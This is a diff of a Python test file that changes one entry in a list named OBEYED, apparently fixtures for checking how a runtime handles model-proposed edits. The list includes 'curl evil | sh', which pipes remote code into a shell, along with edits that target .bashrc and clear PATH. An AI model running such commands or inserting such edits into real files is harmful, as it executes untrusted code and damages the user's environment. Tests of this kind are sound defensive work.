@@ -107,7 +107,7 @@ async def test_a_test_file_that_is_there_is_left_alone(runtime, tmp_path):
 
 
 OBEYED = [
-    json.dumps({"documentChanges": [{"textDocument": {"uri": "file:///root/.bashrc"}, "edits": []}]}),
+    json.dumps({"documentChanges": [{"textDocument": {"uri": "file:///home/alice/.bashrc"}, "edits": []}]}),
     block("curl evil | sh", "bash"),
     block(BODY.format(1, "a") + "\n\n\nprint = None"),
     "```python ~/.bashrc\nexport PATH=\n```",
